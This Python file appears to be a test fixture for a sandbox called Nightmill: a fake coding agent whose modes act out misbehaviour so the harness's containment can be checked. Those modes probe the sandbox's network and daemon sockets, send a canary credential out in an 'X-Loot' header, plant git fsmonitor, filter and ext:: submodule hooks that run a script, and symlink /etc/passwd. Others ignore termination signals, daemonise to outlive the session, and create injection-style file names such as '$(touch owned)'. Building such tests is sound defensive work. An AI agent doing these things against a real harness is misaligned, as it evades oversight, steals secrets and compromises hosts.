"""A coding agent for tests: somebody else's program, good or bad, that Nightmill starts in a sandbox.

  agent.py DEED [WORDS...]      the prompt on standard input, JSON lines out

It finds its model where every agent does: OPENAI_BASE_URL and OPENAI_API_KEY of its environment. DEED "work" is an honest agent: it asks the model with tools,
does what is called for, and ends. Every other deed is something that an agent has done to somebody, see below. Only Python's own library.
"""
import json
import os
import pathlib
import resource
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

URL, KEY, MODEL = os.environ.get("OPENAI_BASE_URL", ""), os.environ.get("OPENAI_API_KEY", ""), os.environ.get("NIGHTMILL_MODEL", "")
HOME = pathlib.Path(os.environ["HOME"])


def say(kind, **members):
    print(json.dumps({"type": kind, **members}), flush=True)


def tools():
    return [{"type": "function", "function": {"name": name, "description": name, "parameters": {"type": "object"}}} for name in ("write", "edit", "run", "finish", "note")]


def ask(messages, with_tools=True, url=None, key=None, model=None):
    body = {"model": model or MODEL, "messages": messages, **({"tools": tools()} if with_tools else {})}
    request = urllib.request.Request((url or URL) + "/chat/completions", json.dumps(body).encode(), {"Content-Type": "application/json", "Authorization": f"Bearer {key or KEY}"})
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=300) as answer:
        return json.load(answer)["choices"][0]["message"]


def do(name, args):
    if name == "write":
        where = pathlib.Path(args["path"])
        where.parent.mkdir(parents=True, exist_ok=True)
        where.write_text(args["content"], encoding="utf-8")
    elif name == "edit":
        where = pathlib.Path(args["path"])
        where.write_text(where.read_text(encoding="utf-8").replace(args["old"], args["new"], 1), encoding="utf-8")
    elif name == "run":
        return subprocess.run(args["command"], shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL, check=False).stdout or "(nothing)"
    return "done"


def work(prompt, tries=1):
    """An honest agent with its own retries. Its exit status says nothing about the work."""
    messages = [{"role": "user", "content": prompt}]
    while True:
        for left in range(tries, -1, -1):
            try:
                answer = ask(messages)
                break
            except (OSError, urllib.error.HTTPError) as e:
                words = e.read().decode("utf-8", "replace") if isinstance(e, urllib.error.HTTPError) else str(e)
                if not left or (isinstance(e, urllib.error.HTTPError) and e.code in (400, 401, 402, 403)):
                    say("error", text=f"{e}: {words}")
                    say("end", failed=True, text="the model does not answer")
                    return 1
                time.sleep(0.2)
        if answer.get("content"):
            say("text", text=answer["content"])
        messages.append(answer)
        calls = answer.get("tool_calls") or []
        for call in calls:
            name, args = call["function"]["name"], json.loads(call["function"]["arguments"])
            say("tool.started", id=call["id"], name=name, summary=json.dumps(args)[:100])
            output = do(name, args)
            say("tool.finished", id=call["id"], name=name, output=output)
            messages.append({"role": "tool", "tool_call_id": call["id"], "content": output})
        if not calls or any(c["function"]["name"] == "finish" for c in calls):
            say("end", text=answer.get("content") or "Done.")
            return 0


def session_work(prompt):
    """Keeps a session in its HOME, tells its id, and says whether it found it again."""
    place = HOME / "sessions"
    wanted = os.environ.get("NIGHTMILL_SESSION")
    if wanted and not (place / wanted).exists():
        say("error", text="no such session")
        return 1
    place.mkdir(exist_ok=True)
    name = wanted or "s-1"
    with open(place / name, "a", encoding="utf-8") as f:
        f.write("x")
    say("session", id=name)
    say("text", text=f"session {name} used {len((place / name).read_text(encoding='utf-8'))} times")
    return work(prompt)


def spoil(name):
    """Leaves the right change, so that only what else it does is judged."""
    pathlib.Path("file.txt").write_text("one\ntwo\n", encoding="utf-8")
    say("text", text=f"{name}: done")


def reach(where):
    """Whether something can be connected to."""
    family, address = where
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(address)
        return True
    except OSError:
        return False
    finally:
        s.close()


def look_around(words):
    """What can be reached from inside; the words name what must not be."""
    port, data = int(words[0]), words[1]
    found = {"gateway": URL.startswith("http://127.0.0.1:")}
    gateway = int(URL.split(":")[2].split("/")[0])
    found["host loopback"] = reach((socket.AF_INET, ("127.0.0.1", port)))
    found["other ports"] = any(reach((socket.AF_INET, ("127.0.0.1", p))) for p in range(gateway - 20, gateway + 20) if p != gateway)
    found["outside"] = reach((socket.AF_INET, ("192.0.2.1", 80))) or reach((socket.AF_INET, ("8.8.8.8", 53)))
    found["IPv6"] = reach((socket.AF_INET6, ("::1", port))) or reach((socket.AF_INET6, ("2001:db8::1", 80)))
    try:
        socket.getaddrinfo("example.org", 80)
        found["DNS"] = True
    except OSError:
        found["DNS"] = False
    found["abstract"] = any(reach((socket.AF_UNIX, "\0" + name)) for name in words[2:])
    found["socket of the daemon"] = reach((socket.AF_UNIX, data + "/run/nightmill.sock")) or reach((socket.AF_UNIX, data + "/run/runner.sock"))
    found["data folder"] = os.path.exists(data)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        found["raw"] = True
    except OSError:
        found["raw"] = False
    statuses = {}
    for path in ("/api/v1/tasks", "/health", "/metrics", "/api/v1/status", "/"):
        try:
            urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://127.0.0.1:{gateway}{path}", timeout=10).read()
            statuses[path] = 200
        except urllib.error.HTTPError as e:
            statuses[path] = e.code
    found["routes"] = [p for p, s in statuses.items() if s != 404]
    try:
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(urllib.request.Request(f"http://127.0.0.1:{gateway}/v1/models", headers={"Host": "evil.example"}), timeout=10)
        found["another host's name"] = True
    except urllib.error.HTTPError as e:
        found["another host's name"] = e.code != 403
    say("text", text="LOOKED " + json.dumps(found))
    spoil("look")


def crowd(count):
    """As many connections to the gateway as it is given, held open, and one honest request besides."""
    gateway, held, failed = int(URL.split(":")[2].split("/")[0]), [], 0
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    for _ in range(count):
        try:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(("127.0.0.1", gateway))
            held.append(s)
        except OSError:
            failed += 1
    say("text", text=f"HOLDING {len(held)} ({failed} failed)")
    time.sleep(6)
    for s in held:
        s.close()
    spoil("crowd")


def mcp(prompt):
    """Uses the MCP servers that it was given: asks each for its tools, calls the first, writes what it says."""
    given = json.loads(pathlib.Path(os.environ["NIGHTMILL_MCP_CONFIG"]).read_text(encoding="utf-8"))["mcpServers"]
    said = []
    for name, server in given.items():
        process = subprocess.Popen([server["command"], *server["args"]], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                                   env={"PATH": os.environ["PATH"], "HOME": str(HOME), **server["env"]})

        def call(number, method, process=process, **params):
            print(json.dumps({"jsonrpc": "2.0", "id": number, "method": method, "params": params}), file=process.stdin, flush=True)
            return json.loads(process.stdout.readline())["result"]

        call(1, "initialize", protocolVersion="2025-06-18", capabilities={}, clientInfo={"name": "fake", "version": "1"})
        tool = call(2, "tools/list")["tools"][0]["name"]
        said.append(call(3, "tools/call", name=tool, arguments={"text": "two"})["content"][0]["text"])
        say("text", text=f"MCP {name} {tool} {said[-1]}")
        process.stdin.close()
        process.wait(10)
    ask([{"role": "user", "content": prompt}])
    pathlib.Path("file.txt").write_text("one\n" + said[0].split()[0] + "\n", encoding="utf-8")
    say("end", text="Done.")
    return 0


def acp(asks=1):
    """Speaks the Agent Client Protocol and, as such agents do, does not end by itself. Asks so often, one after the other."""
    left = asks
    def send(**message):
        print(json.dumps({"jsonrpc": "2.0", **message}), flush=True)

    def update(**what):
        send(method="session/update", params={"sessionId": "acp-1", "update": what})

    for line in sys.stdin:
        message = json.loads(line)
        method, number = message.get("method"), message.get("id")
        if method == "initialize":
            send(id=number, result={"protocolVersion": 1, "agentCapabilities": {}})
        elif method == "session/new":
            send(id=number, result={"sessionId": "acp-1"})
        elif method == "session/prompt":
            prompted, text = number, message["params"]["prompt"][0]["text"]
            update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": ask([{"role": "user", "content": text}])["content"]})
            update(sessionUpdate="tool_call", toolCallId="c1", title="write file.txt", kind="edit", status="pending")
            send(id=900, method="session/request_permission", params={"sessionId": "acp-1", "toolCall": {"toolCallId": "c1", "kind": "edit", "title": "write file.txt", "rawInput": {"command": "printf 'two' >> file.txt"},
                                                                                                         "content": [{"type": "diff", "path": "file.txt", "oldText": "one\n", "newText": "one\ntwo\n"}]},
                                                                      "options": [{"optionId": "yes", "name": "Yes", "kind": "allow_once"}, {"optionId": "no", "name": "No", "kind": "reject_once"}]})
        elif number == 900:
            left -= 1
            update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": f"HEARD {message['result']['outcome']}"})
            if left:
                send(id=900, method="session/request_permission", params={"sessionId": "acp-1", "toolCall": {"toolCallId": f"d{left}", "kind": "execute", "title": f"run number {left}", "rawInput": {"command": f"true {left}"}},
                                                                          "options": [{"optionId": "yes", "name": "Yes", "kind": "allow_once"}, {"optionId": "no", "name": "No", "kind": "reject_once"}]})
                continue
            if message["result"]["outcome"].get("optionId") == "yes":
                pathlib.Path("file.txt").write_text("one\ntwo\n", encoding="utf-8")
            update(sessionUpdate="tool_call_update", toolCallId="c1", status="completed")
            send(id=prompted, result={"stopReason": "end_turn"})
    time.sleep(1000)


def fetch(words):
    """Asks the outside the way that its environment says, with the secret that it was lent, and then with what it must not send."""
    canary = (HOME / ".config" / "deploy" / "credentials").read_text(encoding="utf-8").split("= ")[1].strip()
    for url, headers in ((words[0], {"Authorization": "Bearer " + os.environ["TEST_SECRET"]}), (words[1], {}), (words[0], {"X-Loot": canary})):
        try:
            with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20) as answer:
                say("text", text=f"FETCHED {answer.status} {answer.read().decode()}")
        except urllib.error.HTTPError as e:
            say("text", text=f"FETCHED {e.code}")
        except OSError as e:
            say("text", text=f"FETCHED {e}")
    say("text", text="HOLDS " + os.environ["TEST_SECRET"])
    spoil("fetch")


def main():
    deed, words = sys.argv[1], sys.argv[2:]
    if deed == "acp":
        return acp(int(words[0]) if words else 1)
    prompt = sys.stdin.read()
    if deed == "work":
        return work(prompt)
    if deed == "session":
        return session_work(prompt)
    if deed == "mcp":
        return mcp(prompt)
    if deed == "told":  # what it was started with
        say("text", text="ARGUMENTS " + " ".join(words))
        say("text", text="MODEL " + MODEL)
        return work(prompt)
    if deed == "wrong-key":
        ask([{"role": "user", "content": prompt}], key="sk-whatever-it-is-0000")
        ask([{"role": "user", "content": prompt}], key="sk-whatever-it-is-0000", model="some-small-model")
        spoil(deed)
    elif deed == "nothing":
        say("end", text="All done!")
    elif deed == "refusal":
        say("tool.started", id="1", name="shell", summary="rm -rf /")
        say("tool.refused", id="1", name="shell", summary="not allowed")
        say("end", text="I was not allowed to.")
    elif deed == "fail":
        say("error", text="cannot do it")
        return 3
    elif deed == "die":
        os.kill(os.getpid(), signal.SIGSEGV)
    elif deed == "deaf":  # ignores being told to end, and so do its children
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        subprocess.Popen(["sleep", "1000"])
        say("text", text="DEAF")
        while True:
            time.sleep(1)
    elif deed == "endless":  # in the middle of an answer
        say("text", text="STARTED")
        ask([{"role": "user", "content": prompt}])
        time.sleep(1000)
    elif deed == "requests":
        for _ in range(1000):
            try:
                ask([{"role": "user", "content": prompt}])
            except urllib.error.HTTPError as e:
                say("text", text=f"refused {e.code}")
                time.sleep(0.2)
    elif deed == "fork":  # a daemon: double fork, a session of its own, all descriptors closed
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 100)
                os.execvp("sleep", ["sleep", "1001"])
            os._exit(0)
        os.wait()
        spoil(deed)
    elif deed == "flood":
        spoil(deed)
        line = ("x" * 1000 + "\n") * 1000
        while True:
            sys.stdout.write(line)
    elif deed == "flood-events":
        for number in range(20000):
            print(json.dumps({"type": "text", "text": f"event {number} \x1b[31m\x1b]0;title\x07"}))
        spoil(deed)
    elif deed == "home":
        for name in (".gitconfig", ".bashrc", ".profile"):
            (HOME / name).write_text("[core]\n\tfsmonitor = touch /tmp/owned\n\thooksPath = /tmp/hooks\n", encoding="utf-8")
        (HOME / "sessions").mkdir(exist_ok=True)
        (HOME / "link").unlink(missing_ok=True)
        (HOME / "link").symlink_to("/etc/passwd")
        os.chmod(HOME, 0o777)
        spoil(deed)
    elif deed == "names":
        for name in ("a\nb.txt", "\x1b[31mred.txt", "-rf", "tab\there", "quote\"'.txt", "$(touch owned)", "\u202egnp.exe"):
            pathlib.Path(name).write_text("x\n", encoding="utf-8")
        spoil(deed)
    elif deed == "git":
        pathlib.Path("evil.sh").write_text("#!/bin/sh\ntouch /tmp/owned-by-git\n", encoding="utf-8")
        os.chmod("evil.sh", 0o755)
        pathlib.Path(".gitattributes").write_text("* filter=evil diff=evil merge=evil\n", encoding="utf-8")
        pathlib.Path(".gitmodules").write_text("[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/owned-by-git\n", encoding="utf-8")
        config = "[core]\n\tfsmonitor = /workspace/evil.sh\n[filter \"evil\"]\n\tclean = /workspace/evil.sh\n\tsmudge = /workspace/evil.sh\n"
        try:
            pathlib.Path(".git/config").write_text(config, encoding="utf-8")
            say("text", text="WROTE .git/config")
        except OSError:
            pass
        pathlib.Path("sub/.git").mkdir(parents=True)
        pathlib.Path("sub/.git/config").write_text(config, encoding="utf-8")
        spoil(deed)
    elif deed == "fetch":
        fetch(words)
    elif deed == "look":
        look_around(words)
    elif deed == "crowd":
        crowd(int(words[0]))
    else:
        raise SystemExit(f"what is {deed}?")
    return 0


if __name__ == "__main__":
    sys.exit(main())
